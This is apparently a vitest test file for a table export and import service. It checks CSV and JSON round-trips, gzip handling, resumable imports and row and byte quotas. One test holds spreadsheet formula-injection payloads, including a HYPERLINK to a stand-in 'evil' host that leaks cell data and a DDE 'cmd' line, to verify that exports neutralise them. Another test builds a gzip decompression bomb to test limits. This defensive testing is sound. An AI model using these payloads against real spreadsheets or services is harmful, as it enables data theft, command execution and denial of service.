import { gunzipSync, gzipSync } from 'node:zlib'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { eventually } from '../helpers/eventually.js'
import { startTestService, type TestService } from '../helpers/service.js'
import { importTableJob, type ImportTablePayload } from '../../server/src/tables/import-table-job.js'
import type { AppServices } from '../../server/src/http/env.js'

let service: TestService

beforeAll(async () => {
  service = await startTestService()
})
afterAll(async () => {
  await service.close()
})

/** Downloads a file's content through its signed URL (no token). */
async function download(fileId: string): Promise<Buffer> {
  const { body } = await service.request('GET', `/v1/files/${fileId}`)
  const url = new URL(body.file.url)
  const res = await service.app.fetch(new Request(`http://botshelf.test${url.pathname}${url.search}`))
  expect(res.status).toBe(200)
  return Buffer.from(await res.arrayBuffer())
}

/** Uploads bytes as a new file through upsertFile + the upload URL; returns the file id. */
async function upload(key: string, bytes: Uint8Array): Promise<string> {
  const { body } = await service.request('PUT', '/v1/files', { body: { key, size: bytes.byteLength } })
  const url = new URL(body.file.uploadUrl)
  const res = await service.app.fetch(new Request(`http://botshelf.test${url.pathname}${url.search}`, { method: 'PUT', body: bytes as unknown as BodyInit }))
  expect(res.status).toBeLessThan(300)
  return body.file.id
}

/** Polls `getTableJobs` until the job is `completed` or `failed` (the queue runs it in the background). */
function settled(table: string, jobId: string): Promise<Record<string, any>> {
  return eventually(async () => {
    const { body } = await service.request('GET', `/v1/tables/${table}/jobs`)
    const job = body.jobs.find((j: { id: string }) => j.id === jobId)
    return job && (job.status === 'completed' || job.status === 'failed') ? (job as Record<string, any>) : undefined
  }, `job ${jobId} completed or failed`)
}

async function makeTable(name: string) {
  await service.request('POST', '/v1/tables', {
    body: { name, schema: { type: 'object', properties: { name: { type: 'string' }, score: { type: 'number' }, ok: { type: 'boolean' }, meta: { type: 'object' }, note: { type: 'string' } } } },
  })
}

/**
 * A table and an import job of `rows` CSV rows (`n0,0`, `n1,1`, ...) queued for it but not run, and a way to run the
 * job in this process with the services given (so a test can wrap the tables port).
 */
async function queuedImport(tableName: string, rows: number) {
  await makeTable(tableName)
  const lines = ['name,score', ...Array.from({ length: rows }, (_, i) => `n${i},${i}`)]
  const fileId = await upload(`imports/${tableName}.csv`, Buffer.from(lines.join('\n')))
  const services = service.app.services
  const { table } = await services.backend.tables.getTable(service.botId, tableName)
  const tableJob = await services.backend.tables.createJob(service.botId, table.id, 'import', { inputFileId: fileId })
  const payload: ImportTablePayload = { tableJobId: tableJob.id, botId: service.botId, tableId: table.id, fileId }
  const run = (attempt: number, runServices: AppServices) =>
    importTableJob.run({ job: { id: `job_${attempt}`, attempts: attempt, maxAttempts: 5 } as never, payload, attempt, signal: new AbortController().signal, services: runServices })
  return { services, tableJob, run }
}

describe('exportTable and importTable through the Files API', () => {
  it('exports CSV to a file and imports it back into another table, values intact', async () => {
    await makeTable('srcTable')
    await service.request('POST', '/v1/tables/srcTable/rows', {
      body: { rows: [{ name: 'Ada, "the first"', score: 1.5, ok: true, meta: { a: [1] }, note: '' }, { name: 'line\nbreak', score: -2 }] },
    })
    const exported = await service.request('GET', '/v1/tables/srcTable/export', { query: { format: 'csv', compress: false } })
    expect(exported.status, exported.text).toBe(200)
    // The request answers at once; the job runs in the background.
    expect(exported.body.job).toMatchObject({ type: 'export', status: 'pending', progress: 0, inputFileId: null, outputFileId: null })
    const exportJob = await settled('srcTable', exported.body.job.id)
    expect(exportJob).toMatchObject({ status: 'completed', progress: 1, outputFileId: expect.stringMatching(/^file_/) })
    const csv = (await download(exportJob['outputFileId'])).toString('utf8')
    expect(csv.split('\r\n')[0]).toBe('id,createdAt,updatedAt,name,score,ok,meta,note')

    await makeTable('dstTable')
    const imported = await service.request('POST', '/v1/tables/dstTable/import', { body: { fileId: exportJob['outputFileId'] } })
    expect(imported.status, imported.text).toBe(200)
    expect(imported.body.job).toMatchObject({ type: 'import', status: 'pending', inputFileId: exportJob['outputFileId'] })
    expect(await settled('dstTable', imported.body.job.id)).toMatchObject({ status: 'completed', progress: 1 })
    const { body } = await service.request('POST', '/v1/tables/dstTable/rows/find', { body: {} })
    expect(body.rows.map((r: Record<string, unknown>) => [r['name'], r['score'], r['ok'], r['meta'], r['note']])).toEqual([
      ['Ada, "the first"', 1.5, true, { a: [1] }, ''],
      ['line\nbreak', -2, null, null, null],
    ])
    const jobs = await service.request('GET', '/v1/tables/dstTable/jobs')
    expect(jobs.body.jobs.map((j: { type: string; status: string }) => [j.type, j.status])).toEqual([['import', 'completed']])
  })

  // Finding 2 of issue 28 (decision 1462): these were written as they are, and a spreadsheet ran them.
  it('neutralises formula-leading text in a CSV export with a leading quote, and keeps it raw when asked', async () => {
    await makeTable('formulaTable')
    const hostile = ['=HYPERLINK("http://evil/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(1,1)', '\t=1+1', '\r=1+1', 'plain']
    await service.request('POST', '/v1/tables/formulaTable/rows', { body: { rows: hostile.map((name, i) => ({ name, score: -i })) } })
    const fieldsOf = async (query: Record<string, unknown>): Promise<string[][]> => {
      const exported = await service.request('GET', '/v1/tables/formulaTable/export', { query: { format: 'csv', compress: false, ...query } })
      expect(exported.status, exported.text).toBe(200)
      const job = await settled('formulaTable', exported.body.job.id)
      expect(job['status']).toBe('completed')
      const { parseCsv } = await import('../../server/src/transfer/index.js')
      return parseCsv((await download(job['outputFileId'])).toString('utf8')).slice(1).map((record) => [record[3]!.text, record[4]!.text])
    }
    expect(await fieldsOf({})).toEqual(hostile.map((name, i) => [name === 'plain' ? name : `'${name}`, String(-i)]))
    expect(await fieldsOf({ rawFormulas: true })).toEqual(hostile.map((name, i) => [name, String(-i)]))
  })

  it('exports gzipped JSON with the schema by default', async () => {
    await makeTable('jsonTable')
    await service.request('POST', '/v1/tables/jsonTable/rows', { body: { rows: [{ name: 'x', score: 3 }] } })
    const exported = await service.request('GET', '/v1/tables/jsonTable/export')
    const job = await settled('jsonTable', exported.body.job.id)
    const content = JSON.parse(gunzipSync(await download(job['outputFileId'])).toString('utf8'))
    expect(content.table).toBe('jsonTable')
    expect(Object.keys(content.schema.properties)).toEqual(['name', 'score', 'ok', 'meta', 'note'])
    expect(content.rows).toEqual([expect.objectContaining({ id: 1, name: 'x', score: 3, ok: null })])
    const file = await service.request('GET', `/v1/files/${job['outputFileId']}`)
    expect(file.body.file).toMatchObject({ contentType: 'application/gzip', status: 'upload_completed', key: `tables/jsonTable/${exported.body.job.id}.json.gz` })
  })

  it('imports an uploaded gzipped CSV, keeping existing rows', async () => {
    await makeTable('upTable')
    await service.request('POST', '/v1/tables/upTable/rows', { body: { rows: [{ name: 'kept' }] } })
    const fileId = await upload('imports/people.csv.gz', gzipSync(Buffer.from('name,score,unknown\nBea,2,zzz\nCid,,\n')))
    const res = await service.request('POST', '/v1/tables/upTable/import', { body: { fileId } })
    expect(res.status, res.text).toBe(200)
    expect(await settled('upTable', res.body.job.id)).toMatchObject({ status: 'completed' })
    const { body } = await service.request('POST', '/v1/tables/upTable/rows/find', { body: {} })
    expect(body.rows.map((r: Record<string, unknown>) => [r['name'], r['score']])).toEqual([['kept', null], ['Bea', 2], ['Cid', null]])
  })

  it('refuses a file whose rows do not fit, imports nothing and records the job as failed with the reason', async () => {
    await makeTable('badTable')
    const fileId = await upload('imports/bad.json', Buffer.from(JSON.stringify([{ name: 'ok' }, { name: 'bad', score: 'high' }])))
    const res = await service.request('POST', '/v1/tables/badTable/import', { body: { fileId } })
    expect(res.status, res.text).toBe(200)
    const job = await settled('badTable', res.body.job.id)
    expect(job['status']).toBe('failed')
    expect(job['error']).toContain('rows.1.score: expected number, received "high"')
    expect(job['error']).toContain('no row was imported')
    expect((await service.request('GET', '/v1/tables/badTable')).body.rows).toBe(0)
  })

  it('refuses a file with a bad row after its first steps: nothing of it is imported and nothing stays staged', async () => {
    await makeTable('lateBadTable')
    const lines = ['name,score', ...Array.from({ length: 2_500 }, (_, i) => `n${i},${i === 2_400 ? 'high' : i}`)]
    const fileId = await upload('imports/late-bad.csv', Buffer.from(lines.join('\n')))
    const res = await service.request('POST', '/v1/tables/lateBadTable/import', { body: { fileId } })
    const job = await settled('lateBadTable', res.body.job.id)
    expect(job['status']).toBe('failed')
    expect(job['error']).toContain('rows.2400.score')
    expect(job['error']).toContain('no row was imported')
    expect((await service.request('GET', '/v1/tables/lateBadTable')).body.rows).toBe(0)
    expect(await service.backend.tables.stagedImportRows(res.body.job.id)).toBe(0)
  })

  it('resumes an import stopped while staging and again while publishing, importing every row once and in order', async () => {
    const { services, tableJob, run } = await queuedImport('resumedTable', 2_500)
    // A stop after the first step of each kind, as a killed process leaves it: the step before committed, nothing after.
    const stopping = (method: 'stageImportRows' | 'publishImportRows'): AppServices => {
      let calls = 0
      const tables = new Proxy(services.backend.tables, {
        get: (target, key, receiver) =>
          key === method
            ? (...args: unknown[]) => (++calls > 1 ? Promise.reject(new Error('the process was killed')) : (target[method] as (...a: unknown[]) => Promise<unknown>)(...args))
            : Reflect.get(target, key, receiver),
      })
      return { ...services, backend: { ...services.backend, tables } } as AppServices
    }
    await expect(run(1, stopping('stageImportRows'))).rejects.toThrow('the process was killed')
    expect(await services.backend.tables.stagedImportRows(tableJob.id)).toBe(1_000)
    await expect(run(2, stopping('publishImportRows'))).rejects.toThrow('the process was killed')
    expect((await services.backend.tables.getJob(tableJob.id))!.rowsCommitted).toBe(1_000)
    await run(3, services)
    expect(await services.backend.tables.getJob(tableJob.id)).toMatchObject({ status: 'completed', rowsCommitted: 2_500 })
    expect((await services.backend.tables.getTable(service.botId, 'resumedTable')).rows).toBe(2_500)
    for (const id of [1, 1_000, 1_001, 2_000, 2_001, 2_500]) expect(await services.backend.tables.getRow(service.botId, 'resumedTable', id)).toMatchObject({ name: `n${id - 1}`, score: id - 1 })
    expect(await services.backend.tables.stagedImportRows(tableJob.id)).toBe(0)
  })

  it('hands the event loop back between staging steps: no more than one step of rows is staged between two turns', async () => {
    // ~11 bytes a row: one 64 KiB read of the file holds ~6,000 rows, six staging steps.
    const { services, tableJob, run } = await queuedImport('pacedTable', 12_000)
    // Turns are counted, not timed: a setImmediate that schedules itself runs once per turn of the loop.
    let turns = 0
    let counting = true
    const turn = () => {
      turns += 1
      if (counting) setImmediate(turn)
    }
    setImmediate(turn)
    let seenTurns = -1
    let rowsThisTurn = 0
    let mostRowsInOneTurn = 0
    const tables = new Proxy(services.backend.tables, {
      get: (target, key, receiver) =>
        key === 'stageImportRows'
          ? (...args: Parameters<typeof target.stageImportRows>) => {
              if (turns !== seenTurns) {
                seenTurns = turns
                rowsThisTurn = 0
              }
              rowsThisTurn += args[3].length
              mostRowsInOneTurn = Math.max(mostRowsInOneTurn, rowsThisTurn)
              return target.stageImportRows(...args)
            }
          : Reflect.get(target, key, receiver),
    })
    await run(1, { ...services, backend: { ...services.backend, tables } } as AppServices)
    counting = false
    expect(await services.backend.tables.getJob(tableJob.id)).toMatchObject({ status: 'completed', rowsCommitted: 12_000 })
    // One staging step is 1,000 rows; before the loop was handed back, the six steps of one read ran in one turn.
    expect(mostRowsInOneTurn).toBeGreaterThan(0)
    expect(mostRowsInOneTurn).toBeLessThanOrEqual(1_000)
  })

  it('fails a job whose file is not CSV or JSON rows, saying where', async () => {
    await makeTable('junkTable')
    const fileId = await upload('imports/junk.json', Buffer.from('[{"name": "a"}, {"name": '))
    const res = await service.request('POST', '/v1/tables/junkTable/import', { body: { fileId } })
    const job = await settled('junkTable', res.body.job.id)
    expect(job).toMatchObject({ status: 'failed', error: expect.stringContaining('fileId:') })
    expect((await service.request('GET', '/v1/tables/junkTable')).body.rows).toBe(0)
  })

  it('refuses an import of a file without content before queueing anything', async () => {
    await makeTable('emptyTable')
    const { body } = await service.request('PUT', '/v1/files', { body: { key: 'imports/never-uploaded.csv', size: 3 } })
    const res = await service.request('POST', '/v1/tables/emptyTable/import', { body: { fileId: body.file.id } })
    expect([res.status, res.body.type]).toEqual([400, 'InvalidPayload'])
    expect((await service.request('GET', '/v1/tables/emptyTable/jobs')).body.jobs).toEqual([])
  })

  it('answers a missing file with ResourceNotFound', async () => {
    await makeTable('missTable')
    const res = await service.request('POST', '/v1/tables/missTable/import', { body: { fileId: 'file_01ABCDEFGHJKMNPQRSTVWXYZ01' } })
    expect([res.status, res.body.type]).toEqual([404, 'ResourceNotFound'])
  })
})

// Finding 3 of issue 28 (decision 1463): a 51 KB gzip of 26.2 M rows of `x` imported without bound.
describe('imports are bounded: decompression ratio, rows per table and per bot', () => {
  it('refuses a gzip file that expands more than 100 times, naming the limit, and imports nothing', async () => {
    await makeTable('bombTable')
    const bomb = gzipSync(Buffer.from(`name\n${`${'x'.repeat(200)}\n`.repeat(20_000)}`), { level: 9 })
    expect(bomb.byteLength).toBeLessThan(20_000)
    const fileId = await upload('bomb.csv.gz', bomb)
    const imported = await service.request('POST', '/v1/tables/bombTable/import', { body: { fileId } })
    expect(imported.status, imported.text).toBe(200)
    const job = await settled('bombTable', imported.body.job.id)
    expect(job['status']).toBe('failed')
    expect(job['error']).toMatch(/^fileId: the gzip content expands more than 100 times \(\d+ bytes from the first \d+ bytes of the file\), over the import decompression ratio limit of 100 \(botshelf serve --import-max-ratio\)$/)
    expect((await service.request('GET', '/v1/tables/bombTable')).body.rows).toBe(0)
  })

  it('refuses an import that would take a table or the bot past its row quota, before any row is written', async () => {
    const small = await startTestService({ importLimits: { tableRows: 5, botRows: 8 } })
    try {
      const post = (path: string, body: unknown) => small.request('POST', path, { body })
      await post('/v1/tables', { name: 'quotaTable', schema: { type: 'object', properties: { name: { type: 'string' } } } })
      await post('/v1/tables', { name: 'otherTable', schema: { type: 'object', properties: { name: { type: 'string' } } } })
      await post('/v1/tables/quotaTable/rows', { rows: [{ name: 'a' }, { name: 'b' }] })
      await post('/v1/tables/otherTable/rows', { rows: [{ name: 'c' }, { name: 'd' }, { name: 'e' }, { name: 'f' }] })
      const runImport = (table: string, rows: number) => importNames(small, table, Array.from({ length: rows }, () => 'row'))
      const tooMany = await runImport('quotaTable', 4)
      expect(tooMany).toMatchObject({ status: 'failed' })
      expect(tooMany['error']).toBe('fileId: the import would take table "quotaTable" past its quota of 5 rows (it holds 2 and the file has at least 4); no row was imported (botshelf serve --import-table-rows)')
      const pastBot = await runImport('quotaTable', 3)
      expect(pastBot['error']).toBe("fileId: the import would take the bot's tables past their quota of 8 rows (they hold 6 and the file has at least 3); no row was imported (botshelf serve --import-bot-rows)")
      expect((await small.request('GET', '/v1/tables/quotaTable')).body.rows).toBe(2)
      expect(await runImport('quotaTable', 2)).toMatchObject({ status: 'completed' })
      expect((await small.request('GET', '/v1/tables/quotaTable')).body.rows).toBe(4)
    } finally {
      await small.close()
    }
  })

  it('refuses an import that would take a table or the bot past its byte quota, before any row is written', async () => {
    const small = await startTestService({ importLimits: { tableBytes: 40, botBytes: 60 } })
    try {
      const post = (path: string, body: unknown) => small.request('POST', path, { body })
      await post('/v1/tables', { name: 'quotaTable', schema: { type: 'object', properties: { name: { type: 'string' } } } })
      await post('/v1/tables', { name: 'otherTable', schema: { type: 'object', properties: { name: { type: 'string' } } } })
      await post('/v1/tables/quotaTable/rows', { rows: [{ name: 'a' }, { name: 'b' }] })
      await post('/v1/tables/otherTable/rows', { rows: Array.from({ length: 4 }, () => ({ name: 'c'.repeat(10) })) })
      // The bot stores 2 + 40 bytes: ten rows of "abcd" take the table to 42 (> 40), seven of "abc" the bot to 63 (> 60).
      const pastTable = await importNames(small, 'quotaTable', Array.from({ length: 10 }, () => 'abcd'))
      expect(pastTable).toMatchObject({ status: 'failed' })
      expect(pastTable['error']).toBe(
        'fileId: the import would take table "quotaTable" past its quota of 40 stored bytes (it stores 2, the file brings at least 40: 42 in all); no row was imported (botshelf serve --import-table-bytes)',
      )
      const pastBot = await importNames(small, 'quotaTable', Array.from({ length: 7 }, () => 'abc'))
      expect(pastBot['error']).toBe(
        "fileId: the import would take the bot's tables past their quota of 60 stored bytes (they store 42, the file brings at least 21: 63 in all); no row was imported (botshelf serve --import-bot-bytes)",
      )
      expect((await small.request('GET', '/v1/tables/quotaTable')).body.rows).toBe(2)
      // Exactly at the quotas (table 20 of 40, bot 60 of 60) is allowed.
      expect(await importNames(small, 'quotaTable', Array.from({ length: 6 }, () => 'abc'))).toMatchObject({ status: 'completed' })
      expect((await small.request('GET', '/v1/tables/quotaTable')).body.rows).toBe(8)
      expect(await small.backend.tables.storedBytes(small.botId, 'quotaTable')).toBe(20)
      // Full now: one more byte anywhere in the bot fails.
      const full = await importNames(small, 'quotaTable', ['z'])
      expect(full['error']).toContain("past their quota of 60 stored bytes (they store 60, the file brings at least 1: 61 in all)")
    } finally {
      await small.close()
    }
  })
})

/** Imports a one-column CSV (`name`, one value per row) into `table` on `on` and waits for its job to settle. */
async function importNames(on: TestService, table: string, names: readonly string[]): Promise<Record<string, any>> {
  const bytes = Buffer.from(`name\n${names.map((name) => `${name}\n`).join('')}`)
  const upsert = await on.request('PUT', '/v1/files', { body: { key: `rows-${table}-${names.length}-${names[0]}.csv`, size: bytes.byteLength } })
  const url = new URL(upsert.body.file.uploadUrl)
  expect((await on.app.fetch(new Request(`http://botshelf.test${url.pathname}${url.search}`, { method: 'PUT', body: bytes }))).status).toBe(200)
  const started = await on.request('POST', `/v1/tables/${table}/import`, { body: { fileId: upsert.body.file.id } })
  return eventually(async () => {
    const job = (await on.request('GET', `/v1/tables/${table}/jobs`)).body.jobs.find((j: { id: string }) => j.id === started.body.job.id)
    return job.status === 'completed' || job.status === 'failed' ? (job as Record<string, any>) : undefined
  }, 'the import completed or failed')
}
